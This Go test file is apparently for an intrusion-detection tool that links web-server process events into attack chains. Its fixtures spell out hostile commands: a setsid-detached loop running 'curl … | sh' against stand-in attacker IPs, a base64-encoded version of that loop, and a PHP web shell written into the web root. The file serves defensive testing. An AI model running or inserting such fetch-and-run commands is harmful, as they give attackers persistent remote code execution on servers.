package timeline

import (
	"encoding/base64"
	"testing"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// TestLinkDetached: a web shell detaches a polling loop with `setsid … &`;
// the loop's process is under init from its first record. It joins the
// web shell's chain by its command line, inferred; a loop under init with
// another command line, or as another user, does not.
func TestLinkDetached(t *testing.T) {
	const loop = "while :; do curl -fsS http://198.51.100.9/t | sh; sleep 3; done"
	for _, c := range []struct {
		name    string
		args    []string
		uid     uint32
		after   float64
		encoded bool // the detaching command is a base64 payload piped into sh
		want    bool
	}{
		{"the detached loop", []string{"setsid", "sh", "-c", loop}, 33, 0.008, false, true},
		{"decoded from a payload", []string{"setsid", "sh", "-c", loop}, 33, 0.2, true, true},
		{"another loop", []string{"setsid", "sh", "-c", "while :; do /usr/local/bin/queue-worker; sleep 3; done"}, 33, 0.008, false, false},
		{"another user", []string{"setsid", "sh", "-c", loop}, 0, 0.008, false, false},
		{"too late", []string{"setsid", "sh", "-c", loop}, 33, 5, false, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			sh := shellOf(300, worker1, "/var/www/html/uploads")
			cmd := "setsid sh -c '" + loop + "' >/dev/null 2>&1 &"
			if c.encoded {
				cmd = "echo " + base64.StdEncoding.EncodeToString([]byte(cmd)) + " | base64 -d | sh"
			}
			start := s.find(s.exec(10, sh, "sh", "-c", cmd),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
			orphan := who{pid: 301, ppid: 1, uid: c.uid, cwd: "/var/www/html/uploads"}
			s.exec(10+c.after, orphan, c.args...)
			curl := child(302, orphan)
			dl := s.find(s.exec(10.1+c.after, curl, "curl", "-fsS", "http://198.51.100.9/t"),
				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Tool Download")
			r := s.build()
			ch := chainOf(r, start)
			if got := chainOf(r, dl) == ch; got != c.want {
				dumpChains(t, r)
				t.Fatalf("joined %v, want %v", got, c.want)
			}
			if c.want && !hasLink(ch, "detached (inferred): ", "no fork is recorded") {
				t.Errorf("links %q: the link must say it is inferred and why", ch.Links)
			}
		})
	}
}

// TestRootGapNeedsTellingCwds: the time-gap link between two children of
// one server rests on their working directories telling scripts apart; an
// application server that starts every child in its own directory (a
// JVM) gives no such evidence, and its mail shell-out stays out of the web
// shell's chain. On php-fpm, whose children run in their script's folder,
// the link still joins two roots in the same folder. On the JVM, two
// roots that both did acts the rules judge high join (inferred, said so):
// the rules' judgment is the evidence the cwd cannot give.
func TestRootGapNeedsTellingCwds(t *testing.T) {
	jvm := who{pid: 500, ppid: 1, uid: 2008, exe: "/usr/lib/jvm/java-17/bin/java", cwd: "/opt/app"}
	for _, c := range []struct {
		name   string
		server who
		cwdA   string
		cwdB   string
		other  string // a third child's cwd: the server's children vary or not
		sevB   detect.Severity
		joined bool
	}{
		{"php-fpm, one folder of several", worker1, "/var/www/html/uploads", "/var/www/html/uploads", "/var/www/html", detect.SeverityMedium, true},
		{"a JVM, every child in its cwd", jvm, "/opt/app", "/opt/app", "/opt/app", detect.SeverityMedium, false},
		{"a JVM, two high acts", jvm, "/opt/app", "/opt/app", "/opt/app", detect.SeverityHigh, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{WebServers: []string{"php-fpm*", "java"}})
			s.webServer()
			s.touch(0, jvm)
			a := who{pid: 600, ppid: c.server.pid, uid: c.server.uid, cwd: c.cwdA}
			b := who{pid: 601, ppid: c.server.pid, uid: c.server.uid, cwd: c.cwdB}
			o := who{pid: 602, ppid: c.server.pid, uid: c.server.uid, cwd: c.other}
			s.exec(5, o, "sh", "-c", "/usr/sbin/sendmail -t -i")
			fa := s.find(s.exec(10, a, "sh", "-c", "id"), detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
			fb := s.find(s.exec(20, b, "sh", "-c", "/usr/sbin/sendmail -t -i"), detect.StageCommandExecution, c.sevB, "Web Server Shell Spawn")
			r := s.build()
			if got := chainOf(r, fa) == chainOf(r, fb); got != c.joined {
				dumpChains(t, r)
				t.Fatalf("joined %v, want %v", got, c.joined)
			}
			if c.joined && c.server == jvm && !hasLink(chainOf(r, fa), "web account (inferred): ", "judge high") {
				t.Errorf("links %q: the join is not said to be inferred from the rules' judgment", chainOf(r, fa).Links)
			}
		})
	}
}

// TestLinkAmbiguousToWritten: a high command whose request is ambiguous
// joins the writer of the one script among the candidates that the log
// shows written; not when its command is not high, nor when two
// candidates are such scripts.
func TestLinkAmbiguousToWritten(t *testing.T) {
	for _, c := range []struct {
		name   string
		sev    detect.Severity
		other  string // the second request in flight
		joined bool
	}{
		{"one written script among the candidates", detect.SeverityHigh, "/index.php", true},
		{"the command is not high", detect.SeverityMedium, "/index.php", false},
		{"two written scripts", detect.SeverityHigh, "/uploads/b.php", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := newSim(t, Options{})
			s.webServer()
			a := shellOf(300, worker1, "/var/www/html/uploads")
			cp := s.find(s.write(5, child(301, a), parser.KindFileWrite, "/var/www/html/css/print.php"),
				detect.StageWebshellUpload, detect.SeverityHigh, "Script Written Into Web Root")
			s.write(5.5, child(302, a), parser.KindFileWrite, "/var/www/html/uploads/b.php")
			s.http(20, "GET", "/css/print.php", 200, "203.0.113.7", "curl/8")
			s.http(20, "GET", c.other, 200, "198.51.100.20", "Mozilla/5.0")
			r := shellOf(400, worker2, "/var/www/html")
			cmd := s.find(s.exec(19.6, r, "sh", "-c", "setsid sh -c 'curl -fsS http://203.0.113.7/t | sh' &"),
				detect.StageSuspiciousSpawn, c.sev, "Web Server Exploitation")
			res := s.build()
			if got := chainOf(res, cmd) == chainOf(res, cp); got != c.joined {
				dumpChains(t, res)
				t.Fatalf("joined %v, want %v", got, c.joined)
			}
			if c.joined && !hasLink(chainOf(res, cmd), "file (inferred): ", "the likeliest cause, not an observed one") {
				t.Errorf("links %q", chainOf(res, cmd).Links)
			}
		})
	}
}
